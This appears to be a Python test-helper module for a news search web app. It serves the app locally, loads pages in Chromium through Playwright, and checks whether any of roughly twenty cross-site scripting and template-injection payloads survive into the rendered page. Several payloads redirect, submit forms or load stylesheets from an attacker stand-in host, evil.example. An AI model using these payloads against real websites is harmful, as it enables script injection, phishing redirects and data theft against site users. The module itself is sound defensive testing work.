"""Injection in a real browser: payloads for every field of an article and every parameter, and what they leave behind."""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from typing import Any, Final
from urllib.parse import quote, urlencode

from flask import Flask

from indexer import Article, InputError
from search_app.server import listening_socket, waitress_server
from search_app.urls import NAMES

PAYLOADS: Final = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "vector": "'><svg onload=alert(1)>",
    "end of title": "</title><script>alert(1)</script>",
    "end of mark": "</mark></bdi></p><x-injected>",
    "focus": '" autofocus onfocus=alert(1) x="',
    "pointer": "' onmouseover='alert(1)",
    "script address": "javascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "base": '"><base href=//evil.example/>',
    "refresh": '"><meta http-equiv=refresh content="0;url=//evil.example/">',
    "form": '"><form action=//evil.example/><button>',
    "style": '"><style>*{display:none}</style>',
    "sheet": '"><link rel=stylesheet href=//evil.example/x.css>',
    "entities": '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    "foreign content": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "templates": "{{7*7}}{% raw %}${7*7}{0.__class__}",
    "encoded": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;%3Cscript%3E",
    "mixed case": "\u202e<ScRiPt/x>alert(1)</sCrIpT\u2028>",
    "attributes that act": '"><div hx-on:load=alert(1) data-hx-get=//evil.example/ hx-trigger=load>',
}
FIELDS: Final = ("id", "title", "body", "source", "category", "authors", "url", "lang", "other_urls")
PARAMETERS: Final = (*NAMES, "x")

_BROWSERS: Final = ("chromium", "chromium-browser", "google-chrome")
_NODES: Final = """() => {
  const found = [];
  const foreign = "base,iframe,object,embed,img,style,math,x-injected,meta[http-equiv],[srcdoc],[style],[autofocus]";
  for (const node of document.querySelectorAll(foreign)) found.push(node.outerHTML.slice(0, 200));
  for (const node of document.querySelectorAll("*")) {
    for (const { name } of node.attributes) if (/^(on|hx-|data-hx-on)/.test(name)) found.push(name);
    for (const address of [node.href, node.src, node.action]) {
      if (typeof address !== "string" || !address) continue;
      const { protocol, host } = new URL(address, location);
      const local = node.localName === "a" ? /^https?:$/.test(protocol) : host === location.host;
      if (!local) found.push(`${node.localName} ${address}`);
    }
  }
  return found;
}"""


def hostile_article(fields: Mapping[str, str], number: int) -> Article | None:
    """Return an article with ``fields`` set to payloads, found by ``رقمNUMBER``; None where its rules refuse it."""
    plain = {"id": f"plain-{number}", "title": "عنوان", "body": "", "url": None}
    values: dict[str, Any] = plain | dict(fields)
    values["body"] = f"خبر رقم{number} {values['body']}"
    for name in ("authors", "other_urls"):
        values[name] = [values[name]] if name in fields else []
    with suppress(InputError):
        return Article(**values)
    return None


def article_path(article_id: str) -> str:
    """Return the path of an article's page."""
    return f"/article/{quote(article_id, safe='')}"


def address(path: str, parameters: Mapping[str, str]) -> str:
    """Return ``path`` with ``parameters``."""
    return f"{path}?{urlencode(parameters)}"


class Watch:
    """A tab of Chromium at a server; :meth:`left_by` visits an address."""

    def __init__(self, page: Any, base: str) -> None:
        self.visited = 0
        self.status = 0
        self._page, self._base = page, base
        self._events: list[str] = []
        page.on("dialog", self._dismiss)
        page.on("console", lambda message: self._events.append(message.text) if "Policy" in message.text else None)
        page.on("request", lambda sent: self._events.append(sent.url) if not sent.url.startswith(base) else None)

    def left_by(self, path: str) -> list[str]:
        """Return the nodes, dialogs, refusals of the policy and requests to others that a page at ``path`` has."""
        self._events.clear()
        self.status = self._page.goto(self._base + path).status
        self.visited += 1
        return [*self.nodes(), *self._events]

    def nodes(self) -> list[str]:
        """Return the nodes, attributes and addresses of the page that are not ours."""
        return list(self._page.evaluate(_NODES))

    def insert(self, markup: str) -> None:
        """Put ``markup`` into the page, as an injection would."""
        self._page.evaluate("markup => document.body.insertAdjacentHTML('beforeend', markup)", markup)

    def _dismiss(self, dialog: Any) -> None:
        self._events.append(f"dialog {dialog.message}")
        dialog.dismiss()


@contextmanager
def chromium_at(app: Flask) -> Iterator[Watch]:
    """Serve ``app``, and yield a tab of Chromium that watches it."""
    from playwright.sync_api import sync_playwright

    browser = os.environ.get("AKHBAR_BROWSER") or next(filter(None, map(shutil.which, _BROWSERS)))
    server = waitress_server(app, [listening_socket("127.0.0.1", 0)], threads=4)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=browser, args=["--no-sandbox", "--disable-gpu"])
        yield Watch(chromium.new_page(), f"http://127.0.0.1:{server.effective_port}")
        chromium.close()
    server.close()
    thread.join(timeout=10)
